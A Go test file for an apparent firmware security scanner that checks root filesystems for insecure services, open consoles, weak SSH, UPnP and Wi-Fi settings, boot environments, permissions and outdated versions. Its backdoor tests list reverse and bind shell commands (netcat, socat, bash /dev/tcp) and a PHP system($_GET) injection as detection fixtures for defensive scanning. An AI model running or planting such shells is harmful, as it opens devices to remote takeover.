package security

import (
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/shakedown-test/shakedown/artefact"
	"github.com/shakedown-test/shakedown/artefact/accounts"
	"github.com/shakedown-test/shakedown/artefact/banner"
	"github.com/shakedown-test/shakedown/artefact/request"
	"github.com/shakedown-test/shakedown/artefact/settings"
	"github.com/shakedown-test/shakedown/artefact/startup"
	"github.com/shakedown-test/shakedown/check"
	"github.com/shakedown-test/shakedown/firmware/tree"
)

var rootfs = &tree.Node{Name: "rootfs"}

func servedFile(name string, mode fs.FileMode) *tree.Node {
	return &tree.Node{Name: name, File: &tree.File{Mode: mode}, Parent: rootfs}
}

// starting is a system with one script that runs a command.
func starting(command string) []startup.Start {
	n := servedFile("etc/init.d/S50x", 0o755)
	f := startup.Parse(n.Name, []byte("#!/bin/sh\n"+command+"\n"))
	return startupOf(n, f)
}

func startupOf(n *tree.Node, f *startup.File) []startup.Start {
	root := &tree.Node{Name: "rootfs"}
	n.Parent = root
	root.Children = []*tree.Node{n}
	return startup.Started([]startup.Read{{File: f, Node: n}})
}

// inittab is a system with one line in its inittab.
func inittab(line string) []startup.Start {
	n := servedFile("etc/inittab", 0o644)
	return startupOf(n, startup.Parse(n.Name, []byte(line+"\n")))
}

func setting(name, text string) []artefact.Settings {
	return []artefact.Settings{{File: *settings.Parse(name, []byte(text)), Node: servedFile(name, 0o644)}}
}

func TestJudgeStarts(t *testing.T) {
	for command, want := range map[string]struct {
		judge    func([]startup.Start) []check.Finding
		severity check.Severity // "-": nothing is found
	}{
		"telnetd -F":                                {judgeTelnet, ""},
		"utelnetd -l /bin/login &":                  {judgeTelnet, ""},
		"[ \"$(nvram get t)\" = 1 ] && telnetd":     {judgeTelnet, check.Minor},
		"pidof telnetd || busybox telnetd":          {judgeTelnet, ""},
		"killall telnetd":                           {judgeTelnet, "-"},
		"echo telnetd":                              {judgeTelnet, "-"},
		"vsftpd /etc/vsftpd.conf":                   {judgeFTP, ""},
		"udpsvd -E 0 69 tftpd /data":                {judgeFTP, ""},
		"ftpget host file":                          {judgeFTP, "-"},
		"nc -l -p 4444 -e /bin/sh":                  {judgeBackdoors, ""},
		"nc -ll -p 4444 -e sh &":                    {judgeBackdoors, ""},
		"nc 10.0.0.1 4444 -e /bin/sh":               {judgeBackdoors, ""},
		"nc -l -p 80 -e /usr/bin/status":            {judgeBackdoors, "-"},
		"nc -z host 80":                             {judgeBackdoors, "-"},
		"socat TCP-LISTEN:99,fork EXEC:/bin/sh,pty": {judgeBackdoors, ""},
		"socat TCP-LISTEN:99 TCP:host:80":           {judgeBackdoors, "-"},
		"telnetd -l /bin/sh":                        {judgeBackdoors, ""},
		"telnetd -l /bin/login":                     {judgeBackdoors, "-"},
		"tcpsvd 0 4444 /bin/sh":                     {judgeBackdoors, ""},
		"bash -i >& /dev/tcp/10.0.0.1/99 0>&1":      {judgeBackdoors, ""},
	} {
		got := want.judge(starting(command))
		if want.severity == "-" && len(got) > 0 || want.severity != "-" && (len(got) != 1 || got[0].Severity != want.severity) {
			t.Errorf("%s: %v, want severity %q", command, got, want.severity)
		}
	}
}

func TestJudgeConsoles(t *testing.T) {
	for line, want := range map[string]int{
		"::askfirst:-/bin/sh":                           1,
		"ttyS0::respawn:/bin/ash":                       1,
		"ttyS0::respawn:-/bin/sh":                       1,
		"#ttyS0::respawn:/bin/sh":                       0,
		"ttyS0::respawn:/sbin/getty -L ttyS0 115200":    0,
		"ttyS0::respawn:/sbin/getty -n -l /bin/sh 0 a":  1,
		"1:2345:respawn:/sbin/agetty --autologin root":  1,
		"ttyS0::respawn:/bin/login -f root":             1,
		"::respawn:/bin/sh /usr/bin/watch.sh":           0,
		"::sysinit:/bin/sh -c 'mount -a'":               0,
		"::shutdown:/bin/sh":                            0,
		"ttyAMA0::respawn:/usr/bin/cttyhack /bin/ash":   1,
		"::respawn:/usr/bin/thermostat --shell /bin/sh": 0,
	} {
		if got := judgeConsoles(inittab(line)); len(got) != want {
			t.Errorf("%s: %v, want %d findings", line, got, want)
		}
	}
	for text, want := range map[string]int{"console=ttyS0 init=/bin/sh": 1, "root=/dev/sda1 init=/sbin/init": 0, "x single": 1} {
		if got := judgeCommandLines([]artefact.CommandLine{{Text: text, Node: rootfs}}); len(got) != want {
			t.Errorf("%s: %v, want %d findings", text, got, want)
		}
	}
}

func TestJudgeSSH(t *testing.T) {
	open := []artefact.Account{{Account: accounts.Account{Name: "root", Hash: "$6$abcdefgh$0123456789"}}}
	shut := []artefact.Account{{Account: accounts.Account{Name: "root", Hash: "!"}}}
	for name, c := range map[string]struct {
		command, file, text string
		list                []artefact.Account
		want                check.Severity // "-": none
	}{
		"dropbear":                    {"dropbear -R", "", "", open, ""},
		"dropbear, all locked":        {"dropbear -R", "", "", shut, check.Minor},
		"dropbear with keys":          {"dropbear -sR", "", "", open, "-"},
		"dropbear, by defaults":       {"dropbear $ARGS", "etc/default/dropbear", "ARGS=\"-B -s\"\n", open, "-"},
		"dropbear of OpenWrt":         {"dropbear -F", "etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'on'\n", open, ""},
		"dropbear of OpenWrt, off":    {"dropbear -F", "etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'off'\n", open, "-"},
		"OpenSSH, nothing said":       {"/usr/sbin/sshd", "etc/ssh/sshd_config", "#PasswordAuthentication no\n", open, ""},
		"OpenSSH, off":                {"/usr/sbin/sshd", "etc/ssh/sshd_config", "PasswordAuthentication no\nUsePAM no\n", open, "-"},
		"OpenSSH, off but by PAM":     {"/usr/sbin/sshd", "etc/ssh/sshd_config", "PasswordAuthentication no\nUsePAM yes\n", open, ""},
		"OpenSSH, off and not by PAM": {"/usr/sbin/sshd", "etc/ssh/sshd_config", "PasswordAuthentication no\nUsePAM yes\nKbdInteractiveAuthentication no\n", open, "-"},
		"OpenSSH, only asked":         {"/usr/sbin/sshd -t", "", "", open, "-"},
		"no server":                   {"ssh host", "", "", open, "-"},
	} {
		starts := starting(c.command)
		var all []artefact.Settings
		if c.file != "" {
			all = setting(c.file, c.text)
			all[0].Node.Parent = starts[0].Node.Root()
		}
		got := judgeSSH(starts, all, c.list)
		if c.want == "-" && len(got) > 0 || c.want != "-" && (len(got) != 1 || got[0].Severity != c.want) {
			t.Errorf("%s: %v, want severity %q", name, got, c.want)
		}
	}
}

func TestJudgeServices(t *testing.T) {
	networks := func(all []artefact.Settings) []check.Finding { _, f := judgeNetworks(all); return f }
	const kernel = "# Linux/arm 5.4.0 Kernel Configuration\n"
	for _, c := range []struct {
		name, text string
		judge      func([]artefact.Settings) []check.Finding
		want       int
	}{
		{"system/build.prop", "ro.debuggable=0\nro.secure=1\nro.build.tags=release-keys\nservice.adb.tcp.port=-1\n", judgeProperties, 0},
		{"system/build.prop", "ro.debuggable=1\nro.secure=0\nro.build.tags=test-keys\nservice.adb.tcp.port=5555\n", judgeProperties, 4},
		{"system/build.prop", "#ro.debuggable=1\n", judgeProperties, 0},
		{"etc/miniupnpd.conf", "secure_mode=yes\nallow 1024-65535 0.0.0.0/0 1024-65535\n", judgeMappers, 0},
		{"etc/miniupnpd.conf", "secure_mode=no\nallow 0-65535 0.0.0.0/0 0-65535\n", judgeMappers, 2},
		{"etc/miniupnpd.conf", "#secure_mode=no\nallow 0-65535 192.168.1.2/32 0-65535\n", judgeMappers, 0},
		{"etc/config/upnpd", "config upnpd\n\toption enabled '0'\n\toption secure_mode '0'\n", judgeMappers, 0},
		{"etc/config/upnpd", "config upnpd\n\toption enabled '1'\n\toption secure_mode '0'\nconfig perm_rule\n\toption action allow\n\toption ext_ports '0-65535'\n", judgeMappers, 2},
		{"etc/hostapd.conf", "ssid=a\nwpa=2\n", networks, 0},
		{"etc/hostapd.conf", "ssid=a\n#wpa=2\n", networks, 1},
		{"etc/hostapd.conf", "ssid=a\nwpa=2\nbss=wlan0_0\nssid=b\n", networks, 1},
		{"etc/hostapd.conf", "ssid=a\nwep_key0=abcde\n", networks, 1},
		{"etc/config/wireless", "config wifi-device 'radio0'\n\toption disabled '1'\nconfig wifi-iface\n\toption device 'radio0'\n\toption mode 'ap'\n\toption encryption 'none'\n", networks, 0},
		{"etc/config/wireless", "config wifi-iface\n\toption device 'radio0'\n\toption mode 'ap'\n\toption encryption 'none'\n", networks, 1},
		{"etc/config/wireless", "config wifi-iface\n\toption mode 'sta'\n\toption encryption 'none'\nconfig wifi-iface\n\toption mode 'ap'\n\toption encryption 'psk2'\n", networks, 0},
		{"config", kernel + "CONFIG_DEVMEM=y\nCONFIG_STRICT_DEVMEM=y\n# CONFIG_KGDB is not set\nCONFIG_MAGIC_SYSRQ=y\nCONFIG_MAGIC_SYSRQ_DEFAULT_ENABLE=0x01b6\n", judgeKernels, 0},
		{"config", kernel + "CONFIG_DEVMEM=y\n# CONFIG_STRICT_DEVMEM is not set\nCONFIG_KGDB=y\n", judgeKernels, 1},
	} {
		if got := c.judge(setting(c.name, c.text)); len(got) != c.want {
			t.Errorf("%s, %q: %v, want %d findings", c.name, c.text, got, c.want)
		}
	}
}

func TestJudgeEnvironments(t *testing.T) {
	for text, want := range map[string][2]int{ // delay, network
		"bootdelay=0 bootcmd=bootm":          {0, 0},
		"bootdelay=3 bootcmd=bootm":          {1, 0},
		"bootdelay=3 bootstopkey=secret":     {0, 0},
		"bootcmd=run_net net=tftp":           {0, 0},
		"bootcmd=run~net;bootm net=tftp~0x1": {0, 1},
		"bootcmd=usb~start;fatload~usb~0:1":  {0, 1},
		"bootcmd=run~a a=run~b b=run~a":      {0, 0},
		"bootcmd=setenv~x~dhcp_opt":          {0, 0},
		"boot_targets=mmc0~pxe bootcmd=for~target~in~${boot_targets};~do~run~bootcmd_${target};~done bootcmd_pxe=dhcp;~pxe~get bootcmd_mmc0=x": {0, 1},
		"boot_targets=mmc0 bootcmd=for~target~in~${boot_targets};~do~run~bootcmd_${target};~done bootcmd_pxe=dhcp;~pxe~get bootcmd_mmc0=x":     {0, 0},
	} {
		values := map[string]string{}
		for _, w := range strings.Fields(text) {
			name, value, _ := strings.Cut(strings.ReplaceAll(w, "~", " "), "=")
			values[name] = value
		}
		all := []artefact.Environment{{Environment: settings.Environment{Values: values}, Node: rootfs}}
		if got := [2]int{len(judgeBootDelays(all)), len(judgeBootCommands(all))}; got != want {
			t.Errorf("%s: %v, want %v", text, got, want)
		}
	}
	built, saved := artefact.Environment{Node: rootfs}, artefact.Environment{Environment: settings.Environment{Saved: true}, Node: rootfs}
	if got := used([]artefact.Environment{built, saved}); len(got) != 1 || !got[0].Saved {
		t.Errorf("used: %v", got)
	}
}

func TestJudgeFiles(t *testing.T) {
	for name, c := range map[string]struct {
		mode          fs.FileMode
		rights, tools int
	}{
		"bin/ping":          {0o755 | fs.ModeSetuid, 0, 0},
		"usr/bin/reset":     {0o755 | fs.ModeSetuid, 1, 0},
		"usr/bin/open":      {0o777, 1, 0},
		"usr/share/open":    {0o777, 0, 0},
		"etc":               {fs.ModeDir | 0o777, 1, 0},
		"tmp":               {fs.ModeDir | 0o777 | fs.ModeSticky, 0, 0},
		"usr/bin/gdbserver": {0o755, 0, 1},
		"usr/doc/gdbserver": {0o644, 0, 0},
	} {
		n := servedFile(name, c.mode)
		n.File.Target = "x" // so that it is not empty
		root := &tree.Node{Name: "rootfs", Children: []*tree.Node{n}}
		n.Parent = root
		_, rights := judgeRights(root, nil)
		_, tools := judgeTools(root)
		if len(rights) != c.rights || len(tools) != c.tools {
			t.Errorf("%s: %v, %v", name, rights, tools)
		}
	}
}

func TestJudgeRoot(t *testing.T) {
	for command, want := range map[string]int{"x -p 80": 1, "start-stop-daemon -S -c www -x x": 0, "y": 0} {
		b := binary(t, nil)
		starts := starting(command)
		if command != "y" {
			starts[0].Program = b.Node
		}
		if _, got := judgeRoot(starts, []artefact.Binary{b}); len(got) != want {
			t.Errorf("%s: %v, want %d findings", command, got, want)
		}
	}
}

func TestJudgeAges(t *testing.T) {
	at := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	day := func(y int) time.Time { return time.Date(y, 6, 1, 0, 0, 0, 0, time.UTC) }
	for _, c := range []struct {
		program, version string
		built            time.Time
		want             check.Severity // "-": none
	}{
		{"Linux", "6.12.40", day(2026), "-"},
		{"Linux", "6.12.40", day(2024), ""},
		{"Linux", "7.3.1", day(2026), "-"},
		{"Linux", "2.6.36", day(2015), check.Major},
		{"Linux", "4.14.200", day(2026), check.Major},
		{"Linux", "5.15.1", time.Time{}, "-"},
		{"U-Boot", "2024.01", day(2024), "-"},
		{"U-Boot", "2016.05", day(2026), check.Info},
		{"U-Boot", "1.1.3", day(2015), check.Info},
	} {
		got := judgeAges([]artefact.Banner{{Banner: banner.Banner{Program: c.program, Version: c.version, Built: c.built}, Node: rootfs}}, at)
		if c.want == "-" && len(got) > 0 || c.want != "-" && (len(got) != 1 || got[0].Severity != c.want) {
			t.Errorf("%s %s: %v, want severity %q", c.program, c.version, got, c.want)
		}
	}
}

func TestJudgePages(t *testing.T) {
	pages := []artefact.Page{{Node: rootfs}, {Node: rootfs, Flows: []request.Flow{{Line: 2, Text: "system($_GET['x'])", Input: "$_GET"}}}}
	if got := judgePages(pages); len(got) != 1 {
		t.Errorf("%v, want one finding", got)
	}
}
